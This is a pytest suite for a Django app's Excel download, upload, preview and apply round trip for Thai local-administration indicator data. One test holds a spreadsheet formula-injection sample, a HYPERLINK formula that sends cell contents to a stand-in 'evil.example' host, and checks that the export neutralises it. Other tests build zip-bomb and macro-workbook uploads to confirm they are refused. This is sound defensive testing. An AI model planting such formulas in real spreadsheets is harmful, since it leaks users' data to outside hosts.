"""The Excel round trip: download a workbook, upload it back, preview the changes and apply them all or none."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from accounts.policy import Role
from info_portal import uploads
from sectors import excel, selectors, services
from sectors.catalogue import fiscal_year_open
from sectors.models import (
    Channel,
    Indicator,
    IndicatorValue,
    ReportStatus,
    Sector,
    SectorReport,
    ValueChange,
)
from sectors.parsing import parse_value
from sectors.values import NOT_APPLICABLE
from tests.conftest import make_user

GOV = "ด้านการจัดการภายในและธรรมาภิบาล"
ENV = "ด้านสาธารณสุขและสิ่งแวดล้อม"
EDU = "ด้านนวัตกรรมและการศึกษา"
POPULATION = {"gov_population_male": 600, "gov_population_female": 650, "gov_population_total": 1250,
              "gov_households": 400}


# ------------------------------------------------------------------ helpers


def export(world, fiscal_year, user, lao=None) -> bytes:
    return excel.workbook_export(lao=lao or world.lao_a1, fiscal_year=fiscal_year, user=user)


def edit(data: bytes, sheet: str, rows: dict[str, dict[int, object]]) -> bytes:
    """The workbook with cells of the rows (by item code, new codes appended) set as a recorder would."""
    workbook = load_workbook(io.BytesIO(data))
    ws = workbook[sheet]
    found = {ws.cell(row=r, column=1).value: r for r in range(excel.HEADER_ROW + 1, ws.max_row + 1)}
    for code, cells in rows.items():
        row = found.get(code)
        if row is None:
            row = ws.max_row + 1
            ws.cell(row=row, column=1, value=code)
        for column, value in cells.items():
            ws.cell(row=row, column=column + 1).value = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_values(data: bytes, sheet: str, **values) -> bytes:
    return edit(data, sheet, {code: {excel.VALUE: value} for code, value in values.items()})


def xlsx(data: bytes, name: str = "info.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=excel.XLSX_CONTENT_TYPE)


def parse(world, fiscal_year, user, data, lao=None) -> excel.UploadPreview:
    return excel.workbook_parse(lao=lao or world.lao_a1, fiscal_year=fiscal_year, user=user, file=xlsx(data))


def save(report, user, new_values):
    report.refresh_from_db()
    return services.report_save(report_id=report.pk, user=user, expected_version=report.version,
                                new_values=new_values)


def url(name: str, lao, year: int = 2568) -> str:
    return reverse(f"sectors_excel:{name}", args=[lao.pk, year])


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


# ------------------------------------------------------------------ the workbook


def test_the_workbook_has_instructions_a_thai_sheet_per_sector_and_a_hidden_metadata_sheet(
        world, recorder, fiscal_year, report):
    workbook = load_workbook(io.BytesIO(export(world, fiscal_year, recorder)))

    visible = [name for name in workbook.sheetnames if workbook[name].sheet_state == "visible"]
    assert visible == [excel.NOTES_SHEET, *Sector.objects.order_by("order").values_list("name_th", flat=True)]
    assert all(len(name) <= 31 for name in workbook.sheetnames)
    meta = workbook[excel.META_SHEET]
    assert meta.sheet_state == "veryHidden"
    rows = {r[0]: r[1:] for r in meta.iter_rows(values_only=True)}
    assert rows["lao"][0] == world.lao_a1.pk and rows["fiscal_year"][0] == 2568
    assert rows["governance"] == (GOV, 0)
    assert rows["water"] == ("ด้านการบริหารจัดการน้ำ", None)  # not opened yet
    assert workbook.security.lockStructure


def test_only_the_value_columns_of_a_draft_are_unlocked(world, recorder, fiscal_year, report):
    sheet = load_workbook(io.BytesIO(export(world, fiscal_year, recorder)))[GOV]

    assert sheet.protection.sheet
    headers = [c.value for c in sheet[excel.HEADER_ROW]]
    assert headers == ["รหัสรายการ", "รายการ", "หน่วย", "ค่าปีก่อน", "ค่า", "ไม่เกี่ยวข้อง", "เหตุผลที่เปลี่ยนแปลงมาก"]
    item_row = sheet[excel.HEADER_ROW + 1]
    assert [c.protection.locked for c in item_row] == [True, True, True, True, False, False, False]


def test_a_submitted_sector_and_a_viewers_workbook_are_locked(world, recorder, verifier, fiscal_year, report):
    SectorReport.objects.filter(pk=report.pk).update(status=ReportStatus.SUBMITTED)

    mine = load_workbook(io.BytesIO(export(world, fiscal_year, recorder)))
    theirs = load_workbook(io.BytesIO(export(world, fiscal_year, verifier)))

    assert all(c.protection.locked for c in mine[GOV][excel.HEADER_ROW + 1])
    assert "แก้ไขในไฟล์นี้ไม่ได้" in mine[GOV]["A2"].value
    assert not mine[ENV].cell(row=excel.HEADER_ROW + 1, column=excel.VALUE + 1).protection.locked
    assert theirs[ENV].cell(row=excel.HEADER_ROW + 1, column=excel.VALUE + 1).protection.locked


def test_values_and_last_years_certified_values_are_prefilled(world, recorder, governance):
    last_year = fiscal_year_open(be_year=2567)
    old = services.report_open(lao=world.lao_a1, sector=governance, fiscal_year=last_year)
    save(old, recorder, {**POPULATION, "gov_area": Decimal("12.5"), "gov_council_members": NOT_APPLICABLE})
    SectorReport.objects.filter(pk=old.pk).update(status=ReportStatus.CERTIFIED)
    this_year = fiscal_year_open(be_year=2568)
    current = services.report_open(lao=world.lao_a1, sector=governance, fiscal_year=this_year)
    save(current, recorder, {"gov_population_total": 1300})

    sheet = load_workbook(io.BytesIO(export(world, this_year, recorder)))[GOV]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=excel.HEADER_ROW + 1, values_only=True)}

    assert rows["gov_population_total"][excel.LAST_YEAR] == 1250
    assert rows["gov_population_total"][excel.VALUE] == 1300
    assert rows["gov_area"][excel.VALUE] == 12.5  # carried forward
    assert rows["gov_council_members"][excel.LAST_YEAR] == "ไม่เกี่ยวข้อง"
    assert rows["gov_council_members"][excel.NOT_APPLICABLE_FLAG] == "ใช่"
    assert rows["gov_council_members"][excel.VALUE] is None


def test_yes_no_and_choice_cells_offer_lists(world, recorder, fiscal_year):
    workbook = load_workbook(io.BytesIO(export(world, fiscal_year, recorder)))
    sheet = workbook[ENV]
    rows = {sheet.cell(row=r, column=1).value: r for r in range(excel.HEADER_ROW + 1, sheet.max_row + 1)}

    def validation_of(code):
        cell = f"E{rows[code]}"
        return next(v for v in sheet.data_validations.dataValidation if cell in v.sqref)

    assert validation_of("env_wastewater_system").formula1 == '"มี,ไม่มี"'
    choice = validation_of("env_disposal_method")
    assert choice.type == "list" and excel.LISTS_SHEET in choice.formula1
    listed = [c.value for c in workbook[excel.LISTS_SHEET]["A"]]
    assert listed == Indicator.objects.get(fiscal_year=fiscal_year, code="env_disposal_method").choices
    assert workbook[excel.LISTS_SHEET].sheet_state == "hidden"


def test_text_that_a_spreadsheet_would_run_is_exported_as_text(world, recorder, fiscal_year):
    Indicator.objects.filter(fiscal_year=fiscal_year, code="edu_website").update(label_th="+เว็บไซต์หน่วยงาน")
    education = Sector.objects.get(code="innovation_education")
    edu = services.report_open(lao=world.lao_a1, sector=education, fiscal_year=fiscal_year)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
    save(edu, recorder, {"edu_website": formula})

    data = export(world, fiscal_year, recorder)
    sheet = load_workbook(io.BytesIO(data))[EDU]
    row = next(r for r in sheet.iter_rows(min_row=excel.HEADER_ROW + 1) if r[0].value == "edu_website")

    assert row[excel.VALUE].data_type != "f" and row[excel.LABEL].data_type != "f"
    assert row[excel.VALUE].value == "'" + formula
    assert row[excel.LABEL].value == "'+เว็บไซต์หน่วยงาน"
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet3.xml")
    assert b"<f>" not in raw
    # Read back unchanged, the neutralised text is the stored text: nothing to save.
    assert parse(world, fiscal_year, recorder, data).change_count == 0


def test_sheet_names_are_cut_to_31_characters_and_unique():
    long_name = "ด้านการจัดการภายในและธรรมาภิบาลและการบริการประชาชน"
    sectors = [Sector(code="a", name_th=long_name), Sector(code="b", name_th=long_name),
               Sector(code="c", name_th="ด้าน[ทดสอบ]/ข้อมูล?"), Sector(code="d", name_th=excel.NOTES_SHEET)]

    names = excel._sheet_names(sectors)

    assert names["a"] == long_name[:31]
    assert names["b"] == long_name[:27] + " (2)"
    assert names["c"] == "ด้านทดสอบข้อมูล"
    assert names["d"] == excel.NOTES_SHEET + " (2)"
    assert all(len(n) <= 31 for n in names.values())


@pytest.mark.parametrize(("kind", "raw", "typed"), [
    ("gov_villages", "๑,๒๕๐", 1250),
    ("gov_villages", 12.0, 12),
    ("gov_villages", " 7 ", 7),
    ("gov_area", 999999999999999.0, Decimal("999999999999999")),  # the largest: 15 digits
    ("gov_area", "0.0001", Decimal("0.0001")),
    ("env_wastewater_system", "ไม่มี", False),
    ("env_wastewater_system", True, True),
    ("env_disposal_method", " เตาเผา ", "เตาเผา"),
    ("edu_website", "  https://example.go.th  ", "https://example.go.th"),
    ("edu_website", "   ", None),
])
def test_cells_parse_with_the_web_forms_rules(fiscal_year, kind, raw, typed):
    indicator = Indicator.objects.get(fiscal_year=fiscal_year, code=kind)

    assert parse_value(indicator, raw) == typed


@pytest.mark.parametrize(("kind", "raw", "message"), [
    ("gov_villages", True, "กรุณากรอกเป็นตัวเลขจำนวนเต็ม"),
    ("gov_villages", float("nan"), "กรุณากรอกเป็นตัวเลขจำนวนเต็ม"),
    ("gov_villages", 2**70, "จำนวนเต็มต้องอยู่ระหว่าง"),
    ("gov_area", 1e16, "ตัวเลขต้องอยู่ระหว่าง -999,999,999,999,999"),
    ("gov_area", "12 ตร.กม.", "กรุณากรอกเป็นตัวเลข"),
    ("edu_website", "x" * 2001, "ข้อความยาวได้ไม่เกิน 2,000 ตัวอักษร"),
])
def test_bad_cells_get_the_web_forms_messages(fiscal_year, kind, raw, message):
    indicator = Indicator.objects.get(fiscal_year=fiscal_year, code=kind)

    with pytest.raises(ValidationError) as error:
        parse_value(indicator, raw)

    assert message in error.value.messages[0]


# ------------------------------------------------------------------ round trip


def test_round_trip_previews_then_applies_everything_through_the_excel_channel(
        client, world, recorder, fiscal_year, report):
    client.force_login(recorder)
    data = client.get(url("download", world.lao_a1)).content
    data = with_values(data, GOV, gov_population_male="๖๐๐", gov_population_female="650",
                       gov_population_total="1,250", gov_households=400, gov_area=12.5)
    data = edit(data, ENV, {"env_disposal_method": {excel.VALUE: "เตาเผา"},
                            "env_wastewater_system": {excel.VALUE: "มี"},
                            "env_parks": {excel.NOT_APPLICABLE_FLAG: "ใช่"}})

    response = client.post(url("upload", world.lao_a1), {"file": xlsx(data)})

    assert response.status_code == 200
    preview = response.context["preview"]
    assert preview.can_apply and not preview.errors
    changed = {c.code: c.new for s in preview.changed_sectors for c in s.changes}
    assert changed == {"gov_population_male": 600, "gov_population_female": 650, "gov_population_total": 1250,
                       "gov_households": 400, "gov_area": Decimal("12.5"), "env_disposal_method": "เตาเผา",
                       "env_wastewater_system": True, "env_parks": NOT_APPLICABLE}
    assert "ประชากรชาย" in response.content.decode()
    assert not IndicatorValue.objects.exists() and not ValueChange.objects.exists()

    response = client.post(url("apply", world.lao_a1), {"token": response.context["token"]}, follow=True)

    # Applied: the recorder lands on the sector cards, told what was saved.
    assert response.redirect_chain[-1][0] == reverse("sectors:lao_sectors", args=[world.lao_a1.pk, 2568])
    assert "บันทึกข้อมูลจากไฟล์ Excel แล้ว 8 รายการ ใน 2 ด้าน" in response.content.decode()
    assert 'id="sector-cards"' in response.content.decode()
    assert selectors.report_values(report) == {k: v for k, v in changed.items() if k.startswith("gov_")}
    environment = SectorReport.objects.get(lao=world.lao_a1, sector__code="health_environment")
    assert selectors.report_values(environment)["env_parks"] == NOT_APPLICABLE
    assert ValueChange.objects.filter(channel=Channel.EXCEL, changed_by=recorder).count() == 8
    assert not ValueChange.objects.exclude(channel=Channel.EXCEL).exists()
    # The token is spent: applying twice saves nothing more.
    again = client.post(url("apply", world.lao_a1), {"token": response.context.get("token", "x")}, follow=True)
    assert "กรุณาอัปโหลดไฟล์อีกครั้ง" in again.content.decode()
    assert ValueChange.objects.count() == 8


def test_a_cleared_cell_and_a_new_reason_are_changes(world, recorder, fiscal_year, report):
    save(report, recorder, POPULATION)
    data = edit(export(world, fiscal_year, recorder), GOV, {
        "gov_households": {excel.VALUE: None},
        "gov_population_total": {excel.REASON: "นับใหม่ทั้งตำบล"},
    })

    preview = parse(world, fiscal_year, recorder, data)
    excel.workbook_apply(lao=world.lao_a1, fiscal_year=fiscal_year, data=preview.as_data(), user=recorder)

    assert selectors.report_values(report).get("gov_households") is None
    assert selectors.report_rows(report)["gov_population_total"].change_reason == "นับใหม่ทั้งตำบล"


def test_the_preview_shows_the_rules_after_the_change_across_sectors(world, recorder, fiscal_year, report):
    save(report, recorder, POPULATION)
    data = with_values(export(world, fiscal_year, recorder), "ด้านการบริหารจัดการน้ำ", wat_households_tap=500)

    preview = parse(world, fiscal_year, recorder, data)

    (water,) = preview.changed_sectors
    assert [i.message for i in water.checks.errors] == ["ครัวเรือนที่มีน้ำประปาต้องไม่เกินครัวเรือนทั้งหมด"]
    assert preview.can_apply  # a draft may hold errors; they block submission, not saving


BAD_CELLS = [
    ("gov_villages", {excel.VALUE: "สิบสอง"}, "ค่า", "กรุณากรอกเป็นตัวเลขจำนวนเต็ม"),
    ("gov_villages", {excel.VALUE: -3}, "ค่า", "ต้องไม่น้อยกว่า 0"),
    ("gov_villages", {excel.VALUE: 2.5}, "ค่า", "กรุณากรอกเป็นตัวเลขจำนวนเต็ม"),
    ("gov_area", {excel.VALUE: "1.23456"}, "ค่า", "ทศนิยมได้ไม่เกิน 4 ตำแหน่ง"),
    ("gov_villages", {excel.VALUE: 3, excel.NOT_APPLICABLE_FLAG: "ใช่"}, "ค่า", "จะระบุว่าไม่เกี่ยวข้องไม่ได้"),
    ("gov_villages", {excel.NOT_APPLICABLE_FLAG: "บางส่วน"}, "ไม่เกี่ยวข้อง", "ใส่ได้เฉพาะ “ใช่” หรือเว้นว่าง"),
    ("gov_unknown_item", {excel.VALUE: 3}, "รหัสรายการ", "ไม่รู้จักรหัสรายการ “gov_unknown_item”"),
    ("env_waste_generated", {excel.VALUE: 3}, "รหัสรายการ", "ไม่รู้จักรหัสรายการ “env_waste_generated”"),
]


@pytest.mark.parametrize(("code", "cells", "column", "message"), BAD_CELLS,
                         ids=["text", "negative", "fraction", "decimals", "value-and-na", "na-word", "unknown",
                              "other-sector"])
def test_one_bad_cell_is_listed_by_sheet_row_and_reason_and_nothing_applies(
        client, world, recorder, fiscal_year, report, code, cells, column, message):
    client.force_login(recorder)
    data = with_values(export(world, fiscal_year, recorder), GOV, gov_population_total=1250)
    data = edit(data, GOV, {code: cells})

    response = client.post(url("upload", world.lao_a1), {"file": xlsx(data)})

    preview = response.context["preview"]
    (error,) = preview.errors
    assert error.sheet == GOV and error.column == column and message in error.message
    sheet = load_workbook(io.BytesIO(data))[GOV]
    assert sheet.cell(row=error.row, column=1).value == code
    assert not preview.can_apply and response.context["token"] == ""
    assert 'disabled' in response.content.decode().split('id="excel-apply"')[1]
    assert message in response.content.decode()
    assert not IndicatorValue.objects.exists()


@pytest.mark.parametrize(("cells", "message"), [
    ({"env_disposal_method": {excel.VALUE: "ทิ้งลงแม่น้ำ"}}, "ไม่มีตัวเลือก “ทิ้งลงแม่น้ำ”"),
    ({"env_wastewater_system": {excel.VALUE: "อาจจะ"}}, "ต้องเป็น “มี” หรือ “ไม่มี”"),
    ({"env_parks": {excel.VALUE: 2}, "env_green_area": {excel.VALUE: "มาก"}}, "กรุณากรอกเป็นตัวเลข"),
])
def test_unknown_choices_and_yes_no_words_are_bad_cells(world, recorder, fiscal_year, cells, message):
    preview = parse(world, fiscal_year, recorder, edit(export(world, fiscal_year, recorder), ENV, cells))

    assert [(e.sheet, e.column) for e in preview.errors] == [(ENV, "ค่า")]
    assert message in preview.errors[0].message


def test_thai_digits_commas_and_spreadsheet_numbers_are_accepted(world, recorder, fiscal_year, report):
    data = with_values(export(world, fiscal_year, recorder), GOV, gov_population_total="๑,๒๕๐",
                       gov_budget="12,345,678.50", gov_villages=12.0, gov_area=" 3.25 ")

    preview = parse(world, fiscal_year, recorder, data)

    assert not preview.errors
    assert {c.code: c.new for c in preview.changed_sectors[0].changes} == {
        "gov_population_total": 1250, "gov_budget": Decimal("12345678.50"), "gov_villages": 12,
        "gov_area": Decimal("3.25")}


def test_a_wrong_lao_or_year_or_a_missing_sheet_is_a_thai_error(world, recorder, fiscal_year):
    other_recorder = make_user("other", Role.RECORDER, world.lao_a1_sao)
    data = export(world, fiscal_year, recorder)

    wrong_lao = parse(world, fiscal_year, other_recorder, data, lao=world.lao_a1_sao)
    next_year = fiscal_year_open(be_year=2569, make_current=False)
    wrong_year = parse(world, next_year, recorder, data)
    workbook = load_workbook(io.BytesIO(data))
    del workbook["ด้านสาธารณสุข"]
    buffer = io.BytesIO()
    workbook.save(buffer)
    missing = parse(world, fiscal_year, recorder, buffer.getvalue())

    assert [(e.sheet, e.row) for e in wrong_lao.errors] == [(excel.META_SHEET, 2)]
    assert "อปท. อื่น" in wrong_lao.errors[0].message
    assert [(e.sheet, e.row) for e in wrong_year.errors] == [(excel.META_SHEET, 4)]
    assert "ปีงบประมาณ 2568 ไม่ใช่ 2569" in wrong_year.errors[0].message
    assert [e.message for e in missing.errors] == ["ไม่พบแผ่นงาน “ด้านสาธารณสุข” ของด้านสาธารณสุข"]


def test_a_submitted_sector_cannot_be_changed_from_a_file(world, recorder, fiscal_year, report):
    data = with_values(export(world, fiscal_year, recorder), GOV, gov_villages=12)
    SectorReport.objects.filter(pk=report.pk).update(status=ReportStatus.SUBMITTED)

    preview = parse(world, fiscal_year, recorder, data)

    assert [(e.sheet, e.message) for e in preview.errors] == [
        (GOV, "ด้านการจัดการภายในและธรรมาภิบาล อยู่ในสถานะ “รอตรวจสอบ” แก้ไขไม่ได้")]
    assert not preview.can_apply


# ------------------------------------------------------------------ conflicts


def test_a_save_after_the_download_is_a_conflict_in_the_preview(world, recorder, fiscal_year, report):
    data = with_values(export(world, fiscal_year, recorder), GOV, gov_villages=12)
    save(report, recorder, {"gov_villages": 10})

    preview = parse(world, fiscal_year, recorder, data)

    (error,) = preview.errors
    assert "หลังจากดาวน์โหลดไฟล์นี้" in error.message and "recorder" in error.message
    assert not preview.can_apply


def test_a_save_between_preview_and_apply_refuses_the_whole_apply(world, recorder, fiscal_year, report):
    data = with_values(export(world, fiscal_year, recorder), GOV, gov_villages=12)
    data = with_values(data, ENV, env_parks=3)
    preview = parse(world, fiscal_year, recorder, data)
    assert preview.can_apply and len(preview.changed_sectors) == 2
    save(report, recorder, {"gov_villages": 10})

    with pytest.raises(excel.WorkbookRefused) as refused:
        excel.workbook_apply(lao=world.lao_a1, fiscal_year=fiscal_year, data=preview.as_data(), user=recorder)

    assert "หลังจากดาวน์โหลดไฟล์นี้" in str(refused.value)
    assert selectors.report_values(report) == {"gov_villages": 10}
    assert not SectorReport.objects.filter(sector__code="health_environment").exists()
    assert not ValueChange.objects.filter(channel=Channel.EXCEL).exists()


def test_a_report_submitted_between_preview_and_apply_refuses_everything(client, world, recorder, fiscal_year,
                                                                          report):
    client.force_login(recorder)
    data = with_values(export(world, fiscal_year, recorder), ENV, env_parks=3)
    data = with_values(data, GOV, gov_villages=12)
    response = client.post(url("upload", world.lao_a1), {"file": xlsx(data)})
    SectorReport.objects.filter(pk=report.pk).update(status=ReportStatus.SUBMITTED)

    response = client.post(url("apply", world.lao_a1), {"token": response.context["token"]}, follow=True)

    assert "“รอตรวจสอบ” แก้ไขไม่ได้" in response.content.decode()
    assert not IndicatorValue.objects.exists()


# ------------------------------------------------------------------ bad files


BAD_FILES = {
    "text-renamed-xlsx": lambda data: xlsx("รหัส,ค่า\ngov_villages,12\n".encode(), "info.xlsx"),
    "xlsx-renamed-txt": lambda data: xlsx(data, "info.txt"),
    "executable": lambda data: xlsx(b"MZ\x90\x00" * 200, "info.xlsx"),
    "zip-not-xlsx": lambda data: xlsx(zip_bytes({"readme.txt": b"hello", "data.csv": b"a,b"}), "info.xlsx"),
    "zip-bomb-ratio": lambda data: xlsx(zip_bytes({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>",
                                                   "xl/worksheets/sheet1.xml": b"\0" * (20 * 1024 * 1024)})),
    "macro-workbook": lambda data: xlsx(zip_bytes({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>",
                                                   "xl/vbaProject.bin": b"macro"})),
    "damaged-xlsx": lambda data: xlsx(zip_bytes({"[Content_Types].xml": b"<not xml", "xl/workbook.xml": b"<x"})),
    "other-workbook": lambda data: xlsx(_plain_workbook()),
}
BAD_FILE_MESSAGES = {
    "text-renamed-xlsx": "ไม่ใช่ไฟล์ Excel (.xlsx) ที่ถูกต้อง",
    "xlsx-renamed-txt": "รับเฉพาะไฟล์ Excel นามสกุล .xlsx",
    "executable": "ไม่ใช่ไฟล์ Excel (.xlsx) ที่ถูกต้อง",
    "zip-not-xlsx": "ไม่ใช่ไฟล์ Excel (.xlsx) ที่ถูกต้อง",
    "zip-bomb-ratio": "มีขนาดใหญ่ผิดปกติ",
    "macro-workbook": "ไม่รับไฟล์ที่มีแมโคร",
    "damaged-xlsx": "อ่านไฟล์ไม่ได้",
    "other-workbook": "ไม่ใช่แบบบันทึกข้อมูลที่ดาวน์โหลดจากระบบ",
}


def _plain_workbook() -> bytes:
    workbook = Workbook()
    workbook.active.append(["gov_villages", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("kind", BAD_FILES)
def test_bad_files_are_refused_with_a_thai_message(client, world, recorder, fiscal_year, kind):
    client.force_login(recorder)
    upload = BAD_FILES[kind](export(world, fiscal_year, recorder))

    response = client.post(url("upload", world.lao_a1), {"file": upload})

    assert response.status_code == 200
    assert "preview" not in response.context
    assert BAD_FILE_MESSAGES[kind] in response.context["error"]
    assert BAD_FILE_MESSAGES[kind] in response.content.decode()


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(client, settings, world, recorder, fiscal_year):
    client.force_login(recorder)
    data = export(world, fiscal_year, recorder)
    settings.UPLOAD_MAX_BYTES = len(data) - 1

    response = client.post(url("upload", world.lao_a1), {"file": xlsx(data)})

    assert "ไฟล์ใหญ่เกินกำหนด" in response.context["error"]


def test_a_zip_declaring_more_than_50_mb_is_refused(monkeypatch, world, recorder, fiscal_year):
    monkeypatch.setattr(uploads, "MAX_COMPRESSION_RATIO", 10**6)
    bomb = zip_bytes({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>",
                      **{f"xl/media/{n}.bin": b"\0" * (11 * 1024 * 1024) for n in range(5)}})

    with pytest.raises(excel.WorkbookRefused, match="มีขนาดใหญ่ผิดปกติ"):
        parse(world, fiscal_year, recorder, bomb)


# ------------------------------------------------------------------ who may


def test_out_of_scope_users_get_404_and_viewers_403(client, world, recorder, verifier, fiscal_year, report):
    stranger = make_user("stranger", Role.RECORDER, world.lao_b1)
    client.force_login(stranger)
    assert client.get(url("download", world.lao_a1)).status_code == 404
    assert client.get(url("upload", world.lao_a1)).status_code == 404
    assert client.post(url("apply", world.lao_a1), {"token": "x"}).status_code == 404

    client.force_login(verifier)
    assert client.get(url("download", world.lao_a1)).status_code == 200
    assert client.get(url("upload", world.lao_a1)).status_code == 403
    assert client.post(url("upload", world.lao_a1), {"file": xlsx(b"x")}).status_code == 403
    assert client.post(url("apply", world.lao_a1), {"token": "x"}).status_code == 403

    client.logout()
    assert client.get(url("download", world.lao_a1)).status_code == 302


def test_download_is_named_by_the_lao_code_and_year(client, world, recorder, fiscal_year):
    client.force_login(recorder)

    response = client.get(url("download", world.lao_a1))

    assert response["Content-Type"] == excel.XLSX_CONTENT_TYPE
    assert 'filename="info-5300801-2568.xlsx"' in response["Content-Disposition"]
    assert client.get(url("download", world.lao_a1, year=2400)).status_code == 404


def test_the_upload_page_links_the_download(client, world, recorder, fiscal_year):
    client.force_login(recorder)

    response = client.get(url("upload", world.lao_a1))

    assert response.status_code == 200
    assert url("download", world.lao_a1) in response.content.decode()


# ------------------------------------------------------------------ never a server error


@hypothesis_settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=4096), zip_magic=st.booleans())
def test_random_bytes_never_give_a_server_error(client, world, recorder, fiscal_year, content, zip_magic):
    client.force_login(recorder)
    data = (b"PK\x03\x04" + content) if zip_magic else content

    response = client.post(url("upload", world.lao_a1), {"file": xlsx(data)})

    assert response.status_code < 500
    assert response.context["error"]


CELL_TEXT = st.one_of(
    st.text(max_size=40).map(lambda s: ILLEGAL_CHARACTERS_RE.sub("", s)),
    st.sampled_from(["๑๒", "1,2,3", "-0", "1e5", "NaN", "∞", "=1+1", "'=A1", "ใช่", "มี", " ", "12.00001"]),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
)
CODES = ["gov_villages", "gov_area", "gov_budget", "gov_population_total", "", "gov_villages ", "unknown"]


@hypothesis_settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.tuples(st.sampled_from(CODES), st.sampled_from(excel.COLUMN_INDEXES), CELL_TEXT),
                      min_size=1, max_size=6))
def test_random_cells_never_give_a_server_error(client, world, recorder, fiscal_year, cells):
    client.force_login(recorder)
    data = export(world, fiscal_year, recorder)
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook[GOV]
    for offset, (code, column, value) in enumerate(cells):
        row = excel.HEADER_ROW + 1 + offset
        sheet.cell(row=row, column=1, value=code)
        sheet.cell(row=row, column=column + 1, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = client.post(url("upload", world.lao_a1), {"file": xlsx(buffer.getvalue())})

    assert response.status_code < 500


def test_the_sector_cards_link_the_workbook_and_the_upload_for_recorders_only(client, world, fiscal_year, recorder,
                                                                              verifier):
    cards = reverse("sectors:lao_sectors", args=[world.lao_a1.pk, fiscal_year.be_year])
    download = reverse("sectors_excel:download", args=[world.lao_a1.pk, fiscal_year.be_year])
    upload = reverse("sectors_excel:upload", args=[world.lao_a1.pk, fiscal_year.be_year])
    client.force_login(recorder)
    page = client.get(cards).content.decode()
    assert download in page and upload in page
    client.force_login(verifier)
    page = client.get(cards).content.decode()
    assert download in page and upload not in page
